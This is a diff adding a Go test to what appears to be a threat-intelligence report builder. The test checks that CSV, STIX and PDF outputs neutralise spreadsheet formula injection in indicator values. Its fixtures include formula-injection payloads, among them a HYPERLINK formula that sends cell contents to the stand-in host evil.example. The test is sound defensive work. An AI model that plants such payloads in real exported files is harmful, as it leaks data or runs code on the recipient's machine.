@@ -1,0 +1,141 @@
+package build
+
+import (
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+
+	"briefing/briefing/indicator"
+	"briefing/internal/testkit"
+	"briefing/internal/testkit/stixcheck"
+)
+
+// formulaIOCs are indicators whose values, or notes, a spreadsheet would
+// run as formulas: file names and e-mail addresses are the types that
+// take such values.
+var formulaIOCs = [][3]string{
+	{"file", `=HYPERLINK("https://evil.example/?"&A1,"invoice")`, "=1+1"},
+	{"file", "+cmd.exe", "-> the C2"},
+	{"file", "-rf.sh", "@SUM(A1:A2)"},
+	{"file", "@invoice.pdf.exe", "a note"},
+	{"file", "'quoted'.txt", "'quoted'"},
+	{"email", "=x@evil.example", ""},
+	{"email", "-x@evil.example", ""},
+}
+
+// TestIndicatorFormulas renders an incident with such indicators and
+// reads its attachments back with qpdf, as a recipient does: the CSV
+// starts no field with a formula's character (each such field has an
+// apostrophe before it, which gives the value back when dropped), a
+// spreadsheet shows each value as written and runs none, the
+// STIX bundle holds every value as written, and the PDF prints the file
+// names as written.
+func TestIndicatorFormulas(t *testing.T) {
+	for _, tool := range []string{"pdftotext", "qpdf", "ssconvert"} {
+		testkit.Tool(t, tool)
+	}
+	dir := t.TempDir()
+	var src strings.Builder
+	src.WriteString("format = 2\nid = \"formulas\"\ndate = 2024-03-08\ntitle = \"Formulas\"\nsummary = \"s\"\ntlp = \"GREEN\"\nlanguages = [\"en\"]\n")
+	for _, c := range formulaIOCs {
+		src.WriteString("\n[[indicators]]\ntype = \"" + c[0] + "\"\nvalue = " + strconv.Quote(c[1]) + "\n")
+		if c[2] != "" {
+			src.WriteString("note = " + strconv.Quote(c[2]) + "\n")
+		}
+	}
+	path := filepath.Join(dir, "formulas.toml")
+	if err := os.WriteFile(path, []byte(src.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r := File(context.Background(), path, &Options{Dir: dir, Theme: testTheme(t)})
+	if len(r.Diagnostics) > 0 || len(r.Outputs) != 1 {
+		t.Fatalf("%v, %d PDFs", r.Diagnostics, len(r.Outputs))
+	}
+	pdf := r.Outputs[0].Path
+
+	raw := testkit.Run(t, "qpdf", "--show-attachment=indicators.csv", pdf)
+	recs, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
+	if err != nil || len(recs) != len(formulaIOCs)+1 {
+		t.Fatalf("CSV (%v):\n%s", err, raw)
+	}
+	for i, c := range formulaIOCs {
+		rec := recs[i+1]
+		for j, want := range []string{c[1], c[2]} {
+			field := rec[j+1]
+			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) {
+				t.Errorf("CSV record %d: %q would be run as a formula", i+1, field)
+			}
+			if want != "" && strings.ContainsRune("=+-@'", rune(want[0])) && field != "'"+want {
+				t.Errorf("CSV record %d: %q, want %q with an apostrophe before it", i+1, field, want)
+			}
+			if indicator.CSVValue(field) != want {
+				t.Errorf("CSV record %d: %q does not give back %q", i+1, field, want)
+			}
+		}
+	}
+
+	// A spreadsheet (Gnumeric, as its ssconvert opens a CSV) shows every
+	// value and note as written, as text: the apostrophe is its prefix for
+	// text. A field without it runs: the last line, =1+1, gives 2. (The
+	// fields go one a line, since Gnumeric guesses the separator and
+	// takes a CSV full of apostrophes for one separated by them; Excel and
+	// LibreOffice separate a .csv file by commas.)
+	var col strings.Builder
+	w := csv.NewWriter(&col)
+	var want []string
+	for i, c := range formulaIOCs {
+		for j, v := range []string{c[1], c[2]} {
+			if v != "" {
+				w.Write([]string{recs[i+1][j+1]})
+				want = append(want, v)
+			}
+		}
+	}
+	w.Write([]string{"=1+1"})
+	want = append(want, "2")
+	w.Flush()
+	in, out := filepath.Join(dir, "fields.csv"), filepath.Join(dir, "sheet.csv")
+	if err := os.WriteFile(in, []byte(col.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	testkit.Run(t, "ssconvert", in, out)
+	b, _ := os.ReadFile(out)
+	sheet, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
+	if err != nil || len(sheet) != len(want) {
+		t.Fatalf("ssconvert (%v):\n%s", err, b)
+	}
+	for i, w := range want {
+		if sheet[i][0] != w {
+			t.Errorf("the spreadsheet shows %q, want %q", sheet[i][0], w)
+		}
+	}
+
+	stix := testkit.Run(t, "qpdf", "--show-attachment=indicators.stix.json", pdf)
+	for _, err := range stixcheck.Bundle(t, []byte(stix)) {
+		t.Errorf("STIX 2.1 schemas: %v", err)
+	}
+	var bundle struct {
+		Objects []struct{ Type, Name, Pattern, Description string } `json:"objects"`
+	}
+	if err := json.Unmarshal([]byte(stix), &bundle); err != nil || len(bundle.Objects) != len(formulaIOCs)+1 {
+		t.Fatalf("STIX (%v): %s", err, stix)
+	}
+	for i, c := range formulaIOCs {
+		o := bundle.Objects[i+1]
+		if o.Name != c[1] || o.Pattern != indicator.Pattern(indicator.Type(c[0]), c[1]) || o.Description != c[2] {
+			t.Errorf("STIX indicator %d: %+v, want the value %q and note %q as written", i+1, o, c[1], c[2])
+		}
+	}
+
+	text := strings.Join(strings.Fields(testkit.Run(t, "pdftotext", "-enc", "UTF-8", pdf, "-")), "")
+	for _, c := range formulaIOCs {
+		if c[0] == "file" && !strings.Contains(text, strings.Join(strings.Fields(c[1]), "")) {
+			t.Errorf("the PDF does not print %q as written", c[1])
+		}
+	}
+}
